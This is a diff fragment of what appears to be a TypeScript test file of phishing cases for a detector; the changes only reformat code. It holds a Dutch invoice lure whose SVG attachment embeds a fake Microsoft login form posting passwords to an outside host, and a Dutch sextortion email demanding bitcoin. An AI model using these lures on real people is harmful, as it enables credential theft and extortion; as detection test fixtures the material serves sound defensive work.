-        plain('Goedemorgen,\n\nIn de bijlage vindt u factuur 25-0417, die nog openstaat. Open de bijlage in uw browser en log in om de factuur te bekijken.\n\nMet vriendelijke groet,\nAdministratie\nInstallatiebedrijf Smit'),
-        attachment('Factuur_25-0417.svg', 'image/svg+xml', `<?xml version="1.0" encoding="UTF-8"?>
+        plain(
+          'Goedemorgen,\n\nIn de bijlage vindt u factuur 25-0417, die nog openstaat. Open de bijlage in uw browser en log in om de factuur te bekijken.\n\nMet vriendelijke groet,\nAdministratie\nInstallatiebedrijf Smit',
+        ),
+        attachment(
+          'Factuur_25-0417.svg',
+          'image/svg+xml',
+          `<?xml version="1.0" encoding="UTF-8"?>
 <svg xmlns="http://www.w3.org/2000/svg" width="480" height="360"><rect width="480" height="360" fill="#ffffff"/>
 <foreignObject x="40" y="30" width="400" height="300"><div xmlns="http://www.w3.org/1999/xhtml" style="font-family:Segoe UI">
 <p><b>Microsoft</b></p><p>Meld u aan om het document te bekijken</p>
 <form action="https://doc-login-secure.cfd/post.php" method="POST"><input name="login" value="crediteuren@bouwbedrijf-hendriks.nl"/><br/><input name="passwd" type="password" placeholder="Wachtwoord"/><br/><button type="submit">Aanmelden</button></form>
-</div></foreignObject></svg>`),
+</div></foreignObject></svg>`,
+        ),
       ]),
     }),
   },
@@ -1419,7 +1658,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '20250806011847.9a2c@hrvlmq-online.xyz',
       relay: 'mail.hrvlmq-online.xyz [203.0.113.250]',
       auth: { dkim: 'none', spf: 'none', dmarc: 'none' },
-      body: plain('Hallo Pieter,\n\nJe wachtwoord is Vermeulen1975!. Ik weet het, want ik heb al maanden toegang tot je apparaten. Via een website voor volwassenen heb ik malware op je computer gezet en met je camera opnames gemaakt terwijl je naar die video\'s keek.\n\nIk heb ook al je contacten: familie, collega\'s en vrienden.\n\nMaak binnen 48 uur € 1.500 in bitcoin over naar dit adres:\nbc1q4k8n2m7x5v9c3z1l6p0w8r2t4y6u8i0o3e5a7s\n\nAls ik het geld ontvang, verwijder ik alles. Zo niet, dan stuur ik de video naar iedereen in je contactenlijst. Antwoorden heeft geen zin en de politie kan je niet helpen.'),
+      body: plain(
+        "Hallo Pieter,\n\nJe wachtwoord is Vermeulen1975!. Ik weet het, want ik heb al maanden toegang tot je apparaten. Via een website voor volwassenen heb ik malware op je computer gezet en met je camera opnames gemaakt terwijl je naar die video's keek.\n\nIk heb ook al je contacten: familie, collega's en vrienden.\n\nMaak binnen 48 uur € 1.500 in bitcoin over naar dit adres:\nbc1q4k8n2m7x5v9c3z1l6p0w8r2t4y6u8i0o3e5a7s\n\nAls ik het geld ontvang, verwijder ik alles. Zo niet, dan stuur ik de video naar iedereen in je contactenlijst. Antwoorden heeft geen zin en de politie kan je niet helpen.",
+      ),
     }),
   },
 ];
